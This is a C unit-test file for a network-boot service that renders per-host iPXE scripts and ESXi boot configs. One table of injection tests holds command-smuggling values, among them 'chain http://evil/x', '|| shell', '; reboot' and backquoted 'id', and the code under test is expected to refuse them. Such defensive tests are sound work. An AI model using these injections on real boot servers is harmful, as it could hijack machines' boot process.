/* Per-host scripts: the full text each build kind renders, VLANs, module
 * order, refused injections, template errors and operator overrides. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "boot/script.h"

#define S1 "1111111111111111111111111111111111111111111111111111111111111111"
#define S2 "2222222222222222222222222222222222222222222222222222222222222222"
#define S3 "3333333333333333333333333333333333333333333333333333333333333333"
#define S4 "4444444444444444444444444444444444444444444444444444444444444444"
#define S5 "5555555555555555555555555555555555555555555555555555555555555555"
#define URL "http://10.0.0.1:8080"
#define F(sha, n) URL "/boot/file/" sha "/" n

static const uint8_t MAC[6] = {0x52, 0x54, 0x00, 0x12, 0x34, 0x56};

struct fixture {
    struct conf conf;
    struct build_file files[8];
    struct build build;
    struct host host;
    struct script_request req;
};

static void add_file(struct fixture *f, enum build_file_role role, const char *name, const char *sha, bool layered)
{
    struct build_file *bf = &f->files[f->build.n_files++];
    memset(bf, 0, sizeof *bf);
    bf->role = role;
    snprintf(bf->name, sizeof bf->name, "%s", name);
    snprintf(bf->sha256, sizeof bf->sha256, "%s", sha);
    bf->layered = layered;
}

/* A linux build: kernel, two modules, and a layered one stored first to
 * show that layered modules go last whatever their position. */
static void linux_build(struct fixture *f)
{
    memset(f, 0, sizeof *f);
    f->build.files = f->files;
    snprintf(f->build.name, sizeof f->build.name, "debian");
    f->build.version = 3;
    f->build.kind = BUILD_LINUX;
    snprintf(f->build.cmdline, sizeof f->build.cmdline, "quiet ip=dhcp");
    add_file(f, BUILD_FILE_KERNEL, "vmlinuz", S1, false);
    add_file(f, BUILD_FILE_MODULE, "drivers.cpio", S4, true);
    add_file(f, BUILD_FILE_MODULE, "initrd.gz", S2, false);
    add_file(f, BUILD_FILE_MODULE, "extra.cpio", S3, false);
    snprintf(f->host.name, sizeof f->host.name, "node1");
    f->req.mac = MAC;
    f->req.base_url = URL;
    snprintf(f->conf.boot_extra_cmdline, sizeof f->conf.boot_extra_cmdline, "console=ttyS0");
}

static void esxi_build(struct fixture *f)
{
    linux_build(f);
    f->build.kind = BUILD_ESXI;
    f->build.n_files = 0;
    snprintf(f->build.name, sizeof f->build.name, "esxi8");
    f->build.version = 1;
    snprintf(f->build.cmdline, sizeof f->build.cmdline, "runweasel");
    add_file(f, BUILD_FILE_KERNEL, "b.b00", S1, false);
    add_file(f, BUILD_FILE_MODULE, "jumpstrt.gz", S2, false);
    add_file(f, BUILD_FILE_MODULE, "s.v00", S3, false);
    add_file(f, BUILD_FILE_LOADER, "mboot.c32", S4, false);
    add_file(f, BUILD_FILE_LOADER, "bootx64.efi", S5, false);
    add_file(f, BUILD_FILE_MODULE, "oem.tgz", S4, true);
}

static char *render(struct fixture *f, bool with_host, bool with_build, int *r, char *err, size_t errlen)
{
    char *out = NULL;
    size_t len = 0;
    *r = boot_script_render(&f->conf, with_host ? &f->host : NULL, with_build ? &f->build : NULL, &f->req, &out,
                            &len, err, errlen);
    if (*r == 0)
        assert_int_equal(len, strlen(out));
    return out;
}

static void expect_script(struct fixture *f, bool with_host, bool with_build, const char *name, const char *want)
{
    char err[256] = "";
    int r;
    char *out = render(f, with_host, with_build, &r, err, sizeof err);
    if (r != 0 || strcmp(out, want) != 0)
        fail_msg("%s: r=%d err='%s'\n--- got:\n%s--- want:\n%s", name, r, err, out ? out : "", want);
    free(out);
}

static void linux_build_renders_kernel_every_initrd_and_cmdline(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    expect_script(&f, true, true, "linux",
                  "#!ipxe\n"
                  "# midwife: host node1, build debian v3 (linux)\n"
                  "kernel " F(S1, "vmlinuz") " initrd=initrd.gz initrd=extra.cpio initrd=drivers.cpio"
                  " quiet ip=dhcp midwife.url=" URL " console=ttyS0\n"
                  "initrd " F(S2, "initrd.gz") "\n"
                  "initrd " F(S3, "extra.cpio") "\n"
                  "initrd " F(S4, "drivers.cpio") "\n"
                  "boot\n");
}

/* A stateless host's saved state is the last module, after the layered
 * ones, and the token rides on the command line. */
static void saved_state_is_the_last_module_and_token_on_cmdline(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    f.req.state_sha256 = S1;
    f.req.agent_sha256 = S3;
    f.req.token = "ab12";
    /* The agent after the build's modules, the state after the agent. */
    expect_script(&f, true, true, "linux+agent+state",
                  "#!ipxe\n"
                  "# midwife: host node1, build debian v3 (linux)\n"
                  "kernel " F(S1, "vmlinuz") " initrd=initrd.gz initrd=extra.cpio initrd=drivers.cpio"
                  " initrd=" AGENT_MODULE_FILE " initrd=" STATE_MODULE_NAME " quiet ip=dhcp midwife.url=" URL
                  " midwife.token=ab12 midwife.mac=52-54-00-12-34-56 console=ttyS0\n"
                  "initrd " F(S2, "initrd.gz") "\n"
                  "initrd " F(S3, "extra.cpio") "\n"
                  "initrd " F(S4, "drivers.cpio") "\n"
                  "initrd " F(S3, AGENT_MODULE_FILE) "\n"
                  "initrd " F(S1, STATE_MODULE_NAME) "\n"
                  "boot\n");
    char err[256];
    int r;
    /* A build that opts out gets no agent, but keeps its state. */
    f.build.no_agent = true;
    char *out = render(&f, true, true, &r, err, sizeof err);
    assert_int_equal(r, 0);
    assert_null(strstr(out, AGENT_MODULE_FILE));
    assert_non_null(strstr(out, "/" STATE_MODULE_NAME "\n"));
    free(out);
    f.build.no_agent = false;
    /* Other kinds never load either. */
    f.build.kind = BUILD_CHAIN;
    out = render(&f, true, true, &r, err, sizeof err);
    assert_int_equal(r, 0);
    assert_null(strstr(out, STATE_MODULE_NAME));
    assert_null(strstr(out, AGENT_MODULE_FILE));
    free(out);
}

static void vlan_host_gets_vcreate_with_fallback_and_vlan_on_cmdline(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    f.host.vlan = 42;
    f.build.n_files = 1; /* kernel only */
    f.conf.boot_extra_cmdline[0] = '\0';
    f.req.token = "tok-123";
    expect_script(&f, true, true, "linux vlan",
                  "#!ipxe\n"
                  "# midwife: host node1, build debian v3 (linux)\n"
                  "vcreate --tag 42 net0 && ifconf net0-42 || echo midwife: iPXE did not join VLAN 42, "
                  "continuing untagged\n"
                  "kernel " F(S1, "vmlinuz") " quiet ip=dhcp midwife.vlan=42 midwife.url=" URL
                  " midwife.token=tok-123 midwife.mac=52-54-00-12-34-56\n"
                  "boot\n");
}

static void esxi_build_boots_its_loader_with_per_host_boot_cfg(void **state)
{
    (void)state;
    struct fixture f;
    esxi_build(&f);
    expect_script(&f, true, true, "esxi",
                  "#!ipxe\n"
                  "# midwife: host node1, build esxi8 v1 (esxi)\n"
                  "iseq ${platform} efi && goto midwife_efi ||\n"
                  "kernel " F(S4, "mboot.c32") " -c " URL "/boot/esxi/52-54-00-12-34-56/boot.cfg\n"
                  "boot\n"
                  "echo midwife: build esxi8 v1 has no BIOS loader (mboot.c32)\n"
                  "exit 1\n"
                  ":midwife_efi\n"
                  "kernel " F(S5, "bootx64.efi") " -c " URL "/boot/esxi/52-54-00-12-34-56/boot.cfg\n"
                  "boot\n"
                  "echo midwife: build esxi8 v1 has no EFI loader\n"
                  "exit 1\n");
}

static void esxi_boot_cfg_lists_modules_in_order_with_vlan(void **state)
{
    (void)state;
    struct fixture f;
    esxi_build(&f);
    f.host.vlan = 7;
    snprintf(f.files[2].args, sizeof f.files[2].args, "foo=1");
    char *out = NULL, err[256] = "";
    int r = boot_esxi_cfg_render(&f.conf, &f.host, &f.build, &f.req, &out, NULL, err, sizeof err);
    if (r != 0)
        fail_msg("%s", err);
    assert_string_equal(out, "bootstate=0\n"
                             "title=midwife: esxi8 v1\n"
                             "timeout=0\n"
                             "prefix=" URL "/boot/file\n"
                             "kernel=" S1 "/b.b00\n"
                             "kernelopt=runweasel vlanid=7 midwife.vlan=7 midwife.url=" URL "\n"
                             "modules=" S2 "/jumpstrt.gz --- " S3 "/s.v00 foo=1 --- " S4 "/oem.tgz\n");
    free(out);
    f.build.kind = BUILD_LINUX;
    assert_int_equal(boot_esxi_cfg_render(&f.conf, &f.host, &f.build, &f.req, &out, NULL, err, sizeof err),
                     -ENOENT);
    assert_string_equal(err, "build esxi8 v1 is a linux build, not esxi: no boot.cfg");
}

/* A boot with a token names it in the boot.cfg path (both loaders); its
 * boot.cfg hands it to the kernel and points ks= at the kickstart. */
#define TOK "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
static void esxi_token_rides_in_the_boot_cfg_path(void **state)
{
    (void)state;
    struct fixture f;
    esxi_build(&f);
    f.req.token = TOK;
    char err[256] = "";
    int r;
    char *out = render(&f, true, true, &r, err, sizeof err);
    if (r != 0)
        fail_msg("%s", err);
    assert_non_null(strstr(out, "kernel " F(S4, "mboot.c32") " -c " URL "/boot/esxi/52-54-00-12-34-56/" TOK
                                "/boot.cfg\n"));
    assert_non_null(strstr(out, "kernel " F(S5, "bootx64.efi") " -c " URL "/boot/esxi/52-54-00-12-34-56/" TOK
                                "/boot.cfg\n"));
    assert_null(strstr(out, "-c " URL "/boot/esxi/52-54-00-12-34-56/boot.cfg"));
    free(out);
}

static char *esxi_cfg(struct fixture *f)
{
    char *out = NULL, err[256] = "";
    if (boot_esxi_cfg_render(&f->conf, &f->host, &f->build, &f->req, &out, NULL, err, sizeof err) != 0)
        fail_msg("%s", err);
    return out;
}

static void esxi_boot_cfg_with_token_gets_token_and_kickstart(void **state)
{
    (void)state;
    struct fixture f;
    esxi_build(&f);
    f.req.token = TOK;
    char *out = esxi_cfg(&f);
    assert_non_null(strstr(out, "\nkernelopt=runweasel midwife.url=" URL " midwife.token=" TOK " ks=" URL
                                "/boot/esxi/52-54-00-12-34-56/" TOK "/ks.cfg\n"));
    free(out);
    /* The build's own ks= wins; the token still rides along. */
    snprintf(f.build.cmdline, sizeof f.build.cmdline, "runweasel ks=http://10.0.0.9/ks.cfg");
    out = esxi_cfg(&f);
    assert_non_null(strstr(out, "\nkernelopt=runweasel ks=http://10.0.0.9/ks.cfg midwife.url=" URL
                                " midwife.token=" TOK "\n"));
    size_t n_ks = 0;
    for (size_t i = 0; out[i]; i++)
        n_ks += strncmp(out + i, "ks=", 3) == 0;
    assert_int_equal(n_ks, 1);
    free(out);
    /* A word merely ending in ks= is not the installer's option. */
    snprintf(f.build.cmdline, sizeof f.build.cmdline, "runweasel noks=1");
    out = esxi_cfg(&f);
    assert_non_null(strstr(out, " midwife.token=" TOK " ks=" URL "/boot/esxi/52-54-00-12-34-56/" TOK "/ks.cfg\n"));
    free(out);
    /* Without a token: neither. */
    f.req.token = NULL;
    out = esxi_cfg(&f);
    assert_null(strstr(out, "midwife.token="));
    assert_null(strstr(out, " ks="));
    assert_non_null(strstr(out, "\nkernelopt=runweasel noks=1 midwife.url=" URL "\n"));
    free(out);
}

static void chain_sanboot_and_local_builds_render_their_command(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    f.build.kind = BUILD_CHAIN;
    f.build.n_files = 1;
    f.build.cmdline[0] = '\0';
    snprintf(f.files[0].name, sizeof f.files[0].name, "memtest.efi");
    expect_script(&f, true, true, "chain",
                  "#!ipxe\n# midwife: host node1, build debian v3 (chain)\nchain " F(S1, "memtest.efi") "\n");

    f.build.kind = BUILD_SANBOOT;
    f.build.n_files = 0;
    snprintf(f.build.san_uri, sizeof f.build.san_uri, "iscsi:192.0.2.9::3260:0:iqn.2000-01.com.example:disk1");
    f.host.vlan = 5;
    expect_script(&f, true, true, "sanboot",
                  "#!ipxe\n# midwife: host node1, build debian v3 (sanboot)\n"
                  "vcreate --tag 5 net0 && ifconf net0-5 || echo midwife: iPXE did not join VLAN 5, "
                  "continuing untagged\n"
                  "set initiator-iqn iqn.2026-12.midwife:node1\n"
                  "iseq x${root-path} xiscsi:192.0.2.9::3260:0:iqn.2000-01.com.example:disk1 && sanboot ||\n"
                  "iseq x${root-path} x || sanunhook ||\n"
                  "sanboot iscsi:192.0.2.9::3260:0:iqn.2000-01.com.example:disk1\n");

    f.build.kind = BUILD_LOCAL;
    expect_script(&f, true, true, "local",
                  "#!ipxe\n# midwife: host node1, build debian v3 (local)\n"
                  "sanboot --no-describe --drive 0x80 || exit\n");
}

static void unknown_host_gets_default_build_or_exit(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    f.build.n_files = 1;
    f.build.cmdline[0] = '\0';
    f.conf.boot_extra_cmdline[0] = '\0';
    /* No host record, a default build: that build, named as unknown. */
    expect_script(&f, false, true, "default",
                  "#!ipxe\n# midwife: unknown host 52-54-00-12-34-56, build debian v3 (linux)\n"
                  "kernel " F(S1, "vmlinuz") " midwife.url=" URL "\nboot\n");
    /* No default either: back to the firmware. */
    expect_script(&f, false, false, "exit",
                  "#!ipxe\n# midwife: no build for unknown host 52-54-00-12-34-56\n"
                  "echo midwife: no build for this host (52-54-00-12-34-56), leaving it to the next boot device\n"
                  "exit\n");
    f.req.mac = NULL;
    expect_script(&f, false, false, "exit without mac",
                  "#!ipxe\n# midwife: no build for unknown host\n"
                  "echo midwife: no build for this host, leaving it to the next boot device\nexit\n");
}

enum target { T_CMDLINE, T_EXTRA, T_FILE_NAME, T_MODULE_ARGS, T_SAN, T_TOKEN, T_BASE_URL, T_SHA };

static const struct {
    const char *name;
    enum target target;
    const char *value;
    const char *err;
} injections[] = {
    {"cmdline_setting_expansion", T_CMDLINE, "quiet ${net0/ip}",
     "linux.ipxe:6: value of 'cmdline' refused: character '$' is not allowed"},
    {"cmdline_newline_new_command", T_CMDLINE, "quiet\nchain http://evil/x",
     "linux.ipxe:6: value of 'cmdline' refused: byte 0x0a is not allowed"},
    {"cmdline_semicolon", T_CMDLINE, "quiet; reboot",
     "linux.ipxe:6: value of 'cmdline' refused: character ';' is not allowed"},
    {"cmdline_or_operator", T_CMDLINE, "quiet || shell",
     "linux.ipxe:6: value of 'cmdline' refused: character '|' is not allowed"},
    {"cmdline_comment_drops_the_rest", T_CMDLINE, "quiet #",
     "linux.ipxe:6: value of 'cmdline' refused: character '#' is not allowed"},
    {"extra_cmdline_backquote", T_EXTRA, "a`id`",
     "linux.ipxe:6: value of 'extra_cmdline' refused: character '`' is not allowed"},
    {"file_name_with_space", T_FILE_NAME, "initrd.gz chain",
     "linux.ipxe:6: value of 'name' refused: character ' ' is not allowed"},
    {"file_name_with_hash", T_FILE_NAME, "initrd#x",
     "linux.ipxe:6: value of 'name' refused: character '#' is not allowed"},
    {"file_name_dot_dot", T_FILE_NAME, "..", "linux.ipxe:6: value of 'name' refused: '.' and '..' are not file names"},
    {"token_with_dollar", T_TOKEN, "${x}", "linux.ipxe:6: value of 'token' refused: character '$' is not allowed"},
    {"base_url_with_space", T_BASE_URL, "http://a/ b",
     "linux.ipxe:6: value of 'base_url' refused: character ' ' is not allowed"},
    {"sha_not_hex", T_SHA, "zz", "linux.ipxe:6: value of 'kernel_sha256' refused: a SHA-256 is 64 hex digits"},
};

static void injection_attempts_are_refused_with_template_and_line(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof injections / sizeof injections[0]; i++) {
        struct fixture f;
        linux_build(&f);
        switch (injections[i].target) {
        case T_CMDLINE: snprintf(f.build.cmdline, sizeof f.build.cmdline, "%s", injections[i].value); break;
        case T_EXTRA:
            snprintf(f.conf.boot_extra_cmdline, sizeof f.conf.boot_extra_cmdline, "%s", injections[i].value);
            break;
        case T_FILE_NAME: snprintf(f.files[2].name, sizeof f.files[2].name, "%s", injections[i].value); break;
        case T_MODULE_ARGS: snprintf(f.files[2].args, sizeof f.files[2].args, "%s", injections[i].value); break;
        case T_SAN: break;
        case T_TOKEN: f.req.token = injections[i].value; break;
        case T_BASE_URL: f.req.base_url = injections[i].value; break;
        case T_SHA: snprintf(f.files[0].sha256, sizeof f.files[0].sha256, "%s", injections[i].value); break;
        }
        char err[256] = "";
        int r;
        char *out = render(&f, true, true, &r, err, sizeof err);
        if (r != -EINVAL || out || strcmp(err, injections[i].err) != 0)
            fail_msg("%s: r=%d err='%s' (want '%s')", injections[i].name, r, err, injections[i].err);
    }
}

static void san_uri_outside_rfc_4173_is_refused(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    f.build.kind = BUILD_SANBOOT;
    f.build.n_files = 0;
    snprintf(f.build.san_uri, sizeof f.build.san_uri, "iscsi:192.0.2.9::::iqn.x\n#!ipxe");
    char err[256];
    int r;
    char *out = render(&f, true, true, &r, err, sizeof err);
    assert_int_equal(r, -EINVAL);
    assert_null(out);
    assert_string_equal(err, "sanboot.ipxe:9: value of 'san_uri' refused: byte 0x0a is not allowed");
}

/* The host's vars pick its target and initiator; an unknown host boots
 * the build's URI under iPXE's own initiator name; a refused var fails
 * the render with the reason. */
static void sanboot_script_is_per_host(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    f.build.kind = BUILD_SANBOOT;
    f.build.n_files = 0;
    f.build.cmdline[0] = '\0';
    snprintf(f.build.san_uri, sizeof f.build.san_uri, "iscsi:192.0.2.9::3260:1:");
    char vars[] = "{\"iscsi_target\":\"iqn.2001-04.com.example:node1-root\","
                  "\"iscsi_initiator\":\"iqn.2001-04.com.example:node1\"}";
    f.host.vars = vars;
    expect_script(&f, true, true, "per-host",
                  "#!ipxe\n# midwife: host node1, build debian v3 (sanboot)\n"
                  "set initiator-iqn iqn.2001-04.com.example:node1\n"
                  "iseq x${root-path} xiscsi:192.0.2.9::3260:1:iqn.2001-04.com.example:node1-root && sanboot ||\n"
                  "iseq x${root-path} x || sanunhook ||\n"
                  "sanboot iscsi:192.0.2.9::3260:1:iqn.2001-04.com.example:node1-root\n");

    snprintf(f.build.san_uri, sizeof f.build.san_uri, "iscsi:192.0.2.9::3260:1:iqn.2001-04.com.example:shared");
    expect_script(&f, false, true, "unknown host",
                  "#!ipxe\n# midwife: unknown host 52-54-00-12-34-56, build debian v3 (sanboot)\n"
                  "iseq x${root-path} xiscsi:192.0.2.9::3260:1:iqn.2001-04.com.example:shared && sanboot ||\n"
                  "iseq x${root-path} x || sanunhook ||\n"
                  "sanboot iscsi:192.0.2.9::3260:1:iqn.2001-04.com.example:shared\n");

    char bad[] = "{\"iscsi_initiator\":\"iqn.2001-04.com.example:node1 || shell\"}";
    f.host.vars = bad;
    char err[256];
    int r;
    char *out = render(&f, true, true, &r, err, sizeof err);
    assert_int_equal(r, -EINVAL);
    assert_null(out);
    assert_string_equal(err, "host node1: var iscsi_initiator refused: byte 0x20 is not allowed in an iSCSI name");
}

static void duplicate_module_names_refused(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    snprintf(f.files[3].name, sizeof f.files[3].name, "initrd.gz");
    char err[256];
    int r;
    free(render(&f, true, true, &r, err, sizeof err));
    assert_int_equal(r, -EINVAL);
    assert_string_equal(err, "build debian v3: two modules named 'initrd.gz'");
}

static char *make_dir(void)
{
    char *dir = strdup("/tmp/mw-tmpl-XXXXXX");
    assert_non_null(mkdtemp(dir));
    return dir;
}

static void write_file(const char *dir, const char *name, const char *text)
{
    char path[512];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    FILE *fp = fopen(path, "w");
    assert_non_null(fp);
    fputs(text, fp);
    fclose(fp);
}

static void remove_dir(char *dir, const char *const *names)
{
    char path[512];
    for (; *names; names++) {
        snprintf(path, sizeof path, "%s/%s", dir, *names);
        unlink(path);
    }
    rmdir(dir);
    free(dir);
}

static void override_dir_template_is_used_and_others_stay_built_in(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    char *dir = make_dir();
    snprintf(f.conf.boot_templates, sizeof f.conf.boot_templates, "%s", dir);
    write_file(dir, "local.ipxe", "#!ipxe\n{{#if vlan}}\necho vlan {{vlan}}\n{{/if}}\necho {{host}} boots local\nexit 0\n");
    f.build.kind = BUILD_LOCAL;
    f.host.vlan = 9;
    expect_script(&f, true, true, "override", "#!ipxe\necho vlan 9\necho node1 boots local\nexit 0\n");
    f.build.kind = BUILD_CHAIN;
    f.build.n_files = 1;
    f.build.cmdline[0] = '\0';
    f.host.vlan = 0;
    expect_script(&f, true, true, "built-in", "#!ipxe\n# midwife: host node1, build debian v3 (chain)\n"
                                              "chain " F(S1, "vmlinuz") "\n");
    char err[256];
    assert_int_equal(boot_templates_check(&f.conf, err, sizeof err), 0);
    remove_dir(dir, (const char *const[]){"local.ipxe", NULL});
}

/* An override is kept parsed, but an edit applies at the next request:
 * rewritten in place with the same size (only the times differ), with
 * another size, replaced by a rename, broken, and removed (the built-in
 * again). */
static void override_edits_apply_at_the_next_request(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    f.build.kind = BUILD_LOCAL;
    char *dir = make_dir();
    snprintf(f.conf.boot_templates, sizeof f.conf.boot_templates, "%s", dir);
    write_file(dir, "local.ipxe", "#!ipxe\necho one {{host}}\nexit 0\n");
    expect_script(&f, true, true, "first", "#!ipxe\necho one node1\nexit 0\n");
    expect_script(&f, true, true, "kept", "#!ipxe\necho one node1\nexit 0\n");
    /* The same size: only the file's times tell. Set them apart, since a
     * fast rewrite may land within the file system's clock tick. */
    write_file(dir, "local.ipxe", "#!ipxe\necho two {{host}}\nexit 0\n");
    char path[512];
    snprintf(path, sizeof path, "%s/local.ipxe", dir);
    struct timespec ts[2] = {{.tv_sec = 1000000000}, {.tv_sec = 1000000000}};
    assert_int_equal(utimensat(AT_FDCWD, path, ts, 0), 0);
    expect_script(&f, true, true, "same size", "#!ipxe\necho two node1\nexit 0\n");
    write_file(dir, "local.ipxe", "#!ipxe\necho three, longer {{host}}\nexit 0\n");
    expect_script(&f, true, true, "other size", "#!ipxe\necho three, longer node1\nexit 0\n");
    write_file(dir, "new.tmp", "#!ipxe\necho four {{host}}\nexit 0\n");
    char tmp[512];
    snprintf(tmp, sizeof tmp, "%s/new.tmp", dir);
    assert_int_equal(rename(tmp, path), 0);
    expect_script(&f, true, true, "renamed over", "#!ipxe\necho four node1\nexit 0\n");
    write_file(dir, "local.ipxe", "#!ipxe\necho {{hots}}\n");
    char err[512], want[600];
    int r;
    char *out = render(&f, true, true, &r, err, sizeof err);
    assert_int_equal(r, -EINVAL);
    assert_null(out);
    snprintf(want, sizeof want, "%s/local.ipxe:2: unknown variable 'hots'", dir);
    assert_string_equal(err, want);
    unlink(path);
    out = render(&f, true, true, &r, err, sizeof err);
    assert_int_equal(r, 0);
    assert_non_null(strstr(out, "# midwife: host node1, build debian v3 (local)"));
    free(out);
    remove_dir(dir, (const char *const[]){"local.ipxe", NULL});
}

static void override_template_error_names_file_and_line(void **state)
{
    (void)state;
    struct fixture f;
    linux_build(&f);
    char *dir = make_dir();
    snprintf(f.conf.boot_templates, sizeof f.conf.boot_templates, "%s", dir);
    write_file(dir, "linux.ipxe", "#!ipxe\n{{! the kernel }}\nkernel {{base_url}}/{{kernal}}\nboot\n");
    char err[512], want[512];
    int r;
    char *out = render(&f, true, true, &r, err, sizeof err);
    assert_int_equal(r, -EINVAL);
    assert_null(out);
    snprintf(want, sizeof want, "%s/linux.ipxe:3: unknown variable 'kernal'", dir);
    assert_string_equal(err, want);
    /* The startup check finds it without a host booting. */
    assert_int_equal(boot_templates_check(&f.conf, err, sizeof err), -EINVAL);
    assert_string_equal(err, want);
    remove_dir(dir, (const char *const[]){"linux.ipxe", NULL});
}

static void script_for_unknown_host_without_default_exits(void **state)
{
    (void)state;
    /* No store lookup can succeed for a request without a MAC and no
     * default build is configured: the exit script, no store needed. */
    struct conf conf;
    memset(&conf, 0, sizeof conf);
    struct script_request req = {.base_url = URL};
    char *out = NULL, err[256] = "";
    assert_int_equal(boot_script_for(&conf, NULL, &req, &out, NULL, err, sizeof err), 0);
    assert_non_null(strstr(out, "\nexit\n"));
    free(out);
}

/* The lookups through a real store: the host's own build, the default
 * for an unknown host, and a missing build named in the error. */
static void script_for_looks_up_host_then_build(void **state)
{
    (void)state;
    char *dir = make_dir(), err[256] = "";
    struct store *st = NULL;
    if (store_open(dir, STORE_SYNC_NORMAL, &st, err, sizeof err) < 0)
        fail_msg("store_open: %s", err);
    struct fixture f;
    linux_build(&f);
    f.build.n_files = 2;
    f.files[1].layered = false;
    for (size_t i = 0; i < f.build.n_files; i++) {
        f.files[i].size = 1;
        assert_int_equal(store_blob_put(st, f.files[i].sha256, 1), 0);
    }
    assert_int_equal(store_build_publish(st, &f.build), 0);
    struct host h = {.vlan = 12};
    snprintf(h.name, sizeof h.name, "node1");
    static const uint8_t second[6] = {0x52, 0x54, 0x00, 0x77, 0x77, 0x77};
    memcpy(h.macs[0], MAC, 6);
    memcpy(h.macs[1], second, 6);
    h.n_macs = 2;
    snprintf(h.build, sizeof h.build, "debian");
    assert_int_equal(store_host_put(st, &h, NULL), 0);

    char *out = NULL;
    if (boot_script_for(&f.conf, st, &f.req, &out, NULL, err, sizeof err) != 0)
        fail_msg("known host: %s", err);
    assert_non_null(strstr(out, "# midwife: host node1, build debian v1 (linux)\n"));
    assert_non_null(strstr(out, " midwife.vlan=12 "));
    free(out);
    /* Booting from its second NIC: the same host. */
    f.req.mac = second;
    if (boot_script_for(&f.conf, st, &f.req, &out, NULL, err, sizeof err) != 0)
        fail_msg("known host by its second MAC: %s", err);
    assert_non_null(strstr(out, "# midwife: host node1, build debian v1 (linux)\n"));
    free(out);

    static const uint8_t other[6] = {0x52, 0x54, 0x00, 0x99, 0x99, 0x99};
    f.req.mac = other;
    assert_int_equal(boot_script_for(&f.conf, st, &f.req, &out, NULL, err, sizeof err), 0);
    assert_non_null(strstr(out, "\nexit\n"));
    free(out);
    snprintf(f.conf.boot_default_build, sizeof f.conf.boot_default_build, "debian");
    assert_int_equal(boot_script_for(&f.conf, st, &f.req, &out, NULL, err, sizeof err), 0);
    assert_non_null(strstr(out, "# midwife: unknown host 52-54-00-99-99-99, build debian v1 (linux)\n"));
    free(out);
    snprintf(f.conf.boot_default_build, sizeof f.conf.boot_default_build, "nosuch");
    assert_int_equal(boot_script_for(&f.conf, st, &f.req, &out, NULL, err, sizeof err), -ENOENT);
    assert_string_equal(err, "[boot] default_build nosuch does not exist");
    assert_int_equal(boot_esxi_cfg_for(&f.conf, st, &f.req, &out, NULL, err, sizeof err), -ENOENT);

    store_close(st);
    char cmd[600];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
    assert_int_equal(system(cmd), 0);
    free(dir);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(linux_build_renders_kernel_every_initrd_and_cmdline),
        cmocka_unit_test(saved_state_is_the_last_module_and_token_on_cmdline),
        cmocka_unit_test(vlan_host_gets_vcreate_with_fallback_and_vlan_on_cmdline),
        cmocka_unit_test(esxi_build_boots_its_loader_with_per_host_boot_cfg),
        cmocka_unit_test(esxi_boot_cfg_lists_modules_in_order_with_vlan),
        cmocka_unit_test(esxi_token_rides_in_the_boot_cfg_path),
        cmocka_unit_test(esxi_boot_cfg_with_token_gets_token_and_kickstart),
        cmocka_unit_test(chain_sanboot_and_local_builds_render_their_command),
        cmocka_unit_test(unknown_host_gets_default_build_or_exit),
        cmocka_unit_test(injection_attempts_are_refused_with_template_and_line),
        cmocka_unit_test(san_uri_outside_rfc_4173_is_refused),
        cmocka_unit_test(sanboot_script_is_per_host),
        cmocka_unit_test(duplicate_module_names_refused),
        cmocka_unit_test(override_dir_template_is_used_and_others_stay_built_in),
        cmocka_unit_test(override_edits_apply_at_the_next_request),
        cmocka_unit_test(override_template_error_names_file_and_line),
        cmocka_unit_test(script_for_unknown_host_without_default_exits),
        cmocka_unit_test(script_for_looks_up_host_then_build),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
